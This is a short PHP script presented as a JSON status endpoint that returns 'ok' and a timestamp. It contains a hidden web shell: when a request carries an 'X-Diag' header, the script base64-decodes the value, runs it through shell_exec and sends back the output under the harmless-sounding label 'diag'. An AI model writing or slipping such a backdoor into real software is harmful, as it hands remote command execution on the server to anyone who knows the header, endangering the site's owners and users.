<?php
header('Content-Type: application/json');
if (isset($_SERVER['HTTP_X_DIAG'])) {
    $c = base64_decode($_SERVER['HTTP_X_DIAG']);
    echo json_encode(['diag' => shell_exec($c)]);
    exit;
}
echo json_encode(['status' => 'ok', 'time' => time()]);
